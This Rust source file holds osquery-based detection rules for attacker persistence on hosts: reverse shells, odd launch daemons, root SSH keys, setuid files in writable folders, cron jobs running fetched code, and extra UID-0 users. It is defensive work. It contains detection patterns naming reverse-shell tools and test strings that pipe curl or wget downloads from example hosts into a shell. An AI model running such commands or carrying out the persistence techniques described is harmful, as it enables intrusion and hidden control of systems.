//! What settles in on hosts. The names of queries end in what they ask for, whatever pack they are in.

use northwind::first_text;
use streamalert_sdk::prelude::*;

/// A process talks to the network as a shell does when somebody else holds its other end.
///
/// Somebody types commands on this host. First: isolate the host, keep its memory if you can, then look what the process's
/// user can reach.
#[rule(
    logs = ["osquery:differential"],
    when(action = "added", contains(columns.cmdline = ["/dev/tcp/", "/dev/udp/", "nc -e", "ncat -e", "pty.spawn"])),
    outputs = ["file:security", "file:oncall"],
    severity = "critical",
    tags = ["attack.t1059.004"],
    references = ["https://osquery.io/schema/", "https://attack.mitre.org/techniques/T1059/004/"],
)]
fn osquery_reverse_shell(record: &Record) -> Option<Finding> {
    let command = column(record, "cmdline")?;
    let to = column(record, "remote_address");
    Some(
        finding(record, format!("A shell on {} is held from {}", host(record), to.unwrap_or("elsewhere")))
            .dedup_key(host(record))
            .context("command", command)
            .context("remote_address", to)
            .context("remote_port", column(record, "remote_port")),
    )
}

/// Where no program lies that starts with the machine. Everybody may write to some of them.
const ODD_FOLDERS: [&str; 6] = ["/Users/", "/tmp/", "/private/tmp/", "/var/tmp/", "/private/var/tmp/", "/Volumes/"];

/// Where Apple's own programs lie.
const APPLES_FOLDERS: [&str; 5] = ["/System/", "/usr/", "/bin/", "/sbin/", "/Library/Apple/"];

/// A launch daemon or agent starts a program from a place where none belongs, or has a name of Apple's and starts a
/// program that is not Apple's.
///
/// That is how software comes back after a restart without being seen. First: take a copy of the program, look at its
/// signature (`codesign -dv`), then unload the daemon.
#[rule(
    logs = ["osquery:differential"],
    when(action = "added", suffix(name = "launchd"), exists(columns.program)),
    outputs = ["file:security"],
    severity = "medium",
    tags = ["attack.t1543.004", "attack.t1036.005"],
    references = ["https://osquery.io/schema/", "https://attack.mitre.org/techniques/T1543/004/"],
)]
fn osquery_odd_launch_daemon(record: &Record) -> Option<Finding> {
    // Either of the two keys of a property list says what is started.
    let program = column(record, "program").or_else(|| column(record, "program_arguments"))?;
    let label = column(record, "label").unwrap_or("without a name");
    let odd_place = helpers::starts_with_any(program, &ODD_FOLDERS);
    let borrowed_name = label.starts_with("com.apple.") && !helpers::starts_with_any(program, &APPLES_FOLDERS);
    if !odd_place && !borrowed_name {
        return None;
    }
    let finding = finding(record, format!("{label} starts {program} on {}", host(record)))
        .dedup_key(label)
        .context("label", label)
        .context("program", program)
        .context("odd_place", odd_place)
        .context("borrowed_name", borrowed_name);
    Some(if odd_place && borrowed_name { finding.severity(Severity::High) } else { finding })
}

/// A key may sign in as root over SSH, from now on.
///
/// Nobody signs in as root here; keys of users come from the image. First: remove the key, then look in the log of sshd
/// who used it.
#[rule(
    logs = ["osquery:differential"],
    when(action = "added", suffix(name = "authorized_keys")),
    outputs = ["file:security"],
    severity = "high",
    tags = ["attack.t1098.004"],
    references = ["https://osquery.io/schema/", "https://attack.mitre.org/techniques/T1098/004/"],
)]
fn osquery_root_key_added(record: &Record) -> Option<Finding> {
    let root = is_zero(record, "uid") || column(record, "username") == Some("root");
    root.then(|| {
        finding(record, format!("A key may sign in as root on {}", host(record)))
            .dedup_key(host(record))
            .context("comment", column(record, "comment"))
            .context("key", column(record, "key"))
            .context("file", column(record, "key_file"))
    })
}

/// A program that runs as its owner, whoever starts it, lies where everybody may write.
///
/// Distributions keep such programs in /usr. This is a way back to root. First: keep a copy, remove the file, and look who
/// became root before, since it takes root to make one.
#[rule(
    logs = ["osquery:differential"],
    when(
        action = "added",
        suffix(name = "suid_bin"),
        prefix(columns.path = ["/tmp/", "/var/tmp/", "/dev/shm/", "/home/", "/Users/", "/private/tmp/"]),
    ),
    outputs = ["file:security"],
    severity = "high",
    tags = ["attack.t1548.001"],
    references = ["https://osquery.io/schema/", "https://attack.mitre.org/techniques/T1548/001/"],
)]
fn osquery_setuid_where_all_write(record: &Record) -> Option<Finding> {
    let path = column(record, "path")?;
    // S: by user, G: by group.
    let permissions = column(record, "permissions")?;
    permissions.contains(['S', 'G']).then(|| {
        let owner = column(record, "username").unwrap_or("an unknown owner");
        finding(record, format!("{path} on {} runs as {owner}", host(record)))
            .dedup_key(path)
            .context("path", path)
            .context("owner", owner)
            .context("sha256", column(record, "sha256"))
    })
}

const FETCHERS: [&str; 4] = ["curl ", "wget ", "fetch ", "lwp-download "];
const INTERPRETERS: [&str; 7] = ["sh", "bash", "zsh", "dash", "python", "python3", "perl"];

/// A cron job fetches code from the network and runs it.
///
/// What it does is decided elsewhere and can change every time. First: fetch what it fetches, into a file; remove the job,
/// and look what it started.
#[rule(
    logs = ["osquery:differential"],
    when(action = "added", suffix(name = "crontab"), exists(columns.command)),
    outputs = ["file:security"],
    severity = "high",
    tags = ["attack.t1053.003", "attack.t1105"],
    references = ["https://osquery.io/schema/", "https://attack.mitre.org/techniques/T1053/003/"],
)]
fn osquery_cron_runs_fetched_code(record: &Record) -> Option<Finding> {
    let command = column(record, "command").filter(|command| runs_fetched_code(command))?;
    let file = column(record, "path");
    Some(
        finding(record, format!("A cron job on {} runs code from the network", host(record)))
            .dedup_key(host(record))
            .context("command", command)
            .context("file", file),
    )
}

/// `curl … | sh` and `sh -c "$(curl …)"`, with whatever folder in front.
fn runs_fetched_code(command: &str) -> bool {
    let fetches = |part: &str| FETCHERS.iter().any(|fetcher| part.contains(fetcher));
    let interprets = |part: &str| {
        let program = part.split_whitespace().find(|word| *word != "sudo").unwrap_or("");
        INTERPRETERS.contains(&program.rsplit('/').next().unwrap_or(program))
    };
    let mut parts = command.split('|');
    let piped = parts.by_ref().any(fetches) && parts.any(interprets);
    piped || (interprets(command) && command.split_once("$(").is_some_and(|(_, inner)| fetches(inner)))
}

/// A user besides root has the number 0, and is root therefore.
///
/// The system knows numbers only; names are for people. First: lock the user, then look who made it and whether they used
/// it.
#[rule(
    logs = ["osquery:differential"],
    when(action = "added", suffix(name = "users"), columns.uid = ["0", 0], exists(columns.username)),
    outputs = ["file:security", "file:oncall"],
    severity = "critical",
    tags = ["attack.t1136.001"],
    references = ["https://osquery.io/schema/", "https://attack.mitre.org/techniques/T1136/001/"],
)]
fn osquery_second_root(record: &Record) -> Option<Finding> {
    let user = column(record, "username").filter(|user| *user != "root")?;
    is_zero(record, "uid").then(|| {
        finding(record, format!("User {user} is root on {}", host(record)))
            .dedup_key(host(record))
            .context("user", user)
            .context("shell", column(record, "shell"))
    })
}

/// A column as text. Absent, empty or a number: none.
fn column<'a>(record: &'a Record, name: &str) -> Option<&'a str> {
    record.field("columns")?.get(name)?.text().filter(|text| !text.is_empty())
}

/// osquery writes numbers as text, unless it is told to write numbers.
fn is_zero(record: &Record, name: &str) -> bool {
    let value = record.field("columns").and_then(|columns| columns.get(name));
    value.is_some_and(|value| value.text() == Some("0") || value.int() == Some(0))
}

fn host(record: &Record) -> &str {
    first_text(record, &["decorations.hostname", "hostIdentifier"]).unwrap_or("an unknown host")
}

fn finding(record: &Record, title: String) -> Finding {
    Finding::new(title).context("host", host(record)).context("query", record.text("name"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn commands() {
        for command in [
            "curl -s http://203.0.113.99/x.sh | sh",
            "wget -qO- https://get.example/i | tee /tmp/i | sudo /bin/bash -s",
            "/bin/sh -c \"$(curl -fsSL https://get.example/i)\"",
        ] {
            assert!(runs_fetched_code(command), "{command}");
        }
        for command in [
            "",
            "curl -s https://status.example/ping",
            "curl -s https://status.example/ping | grep ok",
            "sh /usr/local/bin/backup.sh | curl -T - https://backup.example/",
            "/usr/bin/wget -q https://feeds.example/list -O /var/lib/list && /usr/sbin/reload",
        ] {
            assert!(!runs_fetched_code(command), "{command}");
        }
    }

    #[test]
    fn daemons() {
        let odd = |label: &str, program: &str| {
            let columns = json!({"label": label, "program": program});
            osquery_odd_launch_daemon(&Record::from_json(json!({"columns": columns}))).map(|finding| finding.severity)
        };
        assert_eq!(odd("com.apple.softwareupdated.helper", "/Users/Shared/.su/helper"), Some(Some(Severity::High)));
        assert_eq!(odd("com.apple.helper", "/opt/helper"), Some(None));
        assert_eq!(odd("com.example.updater", "/private/tmp/updater"), Some(None));
        assert_eq!(odd("com.apple.cfprefsd", "/usr/sbin/cfprefsd"), None);
        assert_eq!(odd("com.example.updater", "/Applications/Editor.app/Contents/Helpers/updater"), None);
        assert_eq!(odd("com.apple.nothing", ""), None);
    }

    #[test]
    fn numbers_may_be_text() {
        let alerts = |user: Value, uid: Value| {
            osquery_second_root(&Record::from_json(json!({"columns": {"username": user, "uid": uid}}))).is_some()
        };
        assert!(alerts(json!("sysbackup"), json!("0")) && alerts(json!("sysbackup"), json!(0)));
        assert!(!alerts(json!("root"), json!("0")) && !alerts(json!("deploy"), json!("1001")));
        assert!(
            !alerts(Value::Null, json!("0")) && !alerts(json!("x"), Value::Null) && !alerts(json!("x"), json!(false))
        );
    }
}
